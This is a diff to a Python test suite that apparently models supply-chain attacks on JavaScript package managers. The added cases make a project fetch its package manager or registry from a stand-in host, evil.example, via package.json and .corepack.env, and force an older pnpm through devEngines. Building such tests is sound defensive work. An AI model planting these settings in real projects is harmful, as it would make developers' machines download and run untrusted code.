@@ -667,6 +667,27 @@ def _pnpm_override_locked(world: World) -> None:
     world.write(world.lockfile, text.replace("  left-pad@1.3.0:", "  quietly-evil@1.0.0:"))
 
 
+@attack("a package manager from a URL", "client-settings",
+        clients=("yarn-classic", "yarn-berry", "pnpm"))  # fmt: skip
+def _manager_by_url(world: World) -> None:
+    program = PINS[world.client].partition("@")[0]
+    world.json("package.json",
+               lambda data: data.update(packageManager=f"{program}@https://evil.example/m.js"))  # fmt: skip
+
+
+@attack("corepack told to fetch the package manager elsewhere", "client-settings",
+        clients=("yarn-classic", "yarn-berry", "pnpm"))  # fmt: skip
+def _corepack(world: World) -> None:
+    world.write(".corepack.env", "COREPACK_NPM_REGISTRY=https://evil.example/\n")
+
+
+@attack("pnpm: an older version by devEngines, which pnpm 11 and 12 heed", "ignore-scripts",
+        clients=("pnpm",))  # fmt: skip
+def _older_by_engines(world: World) -> None:
+    asked = {"packageManager": {"name": "pnpm", "version": "9.15.0", "onFail": "download"}}
+    world.json("package.json", lambda data: data.update(devEngines=asked))
+
+
 @attack("pnpm: a pnpmfile", "client-settings", clients=("pnpm",))
 def _pnpmfile(world: World) -> None:
     world.write(".pnpmfile.cjs", "module.exports = {hooks: {readPackage: p => p}}\n")
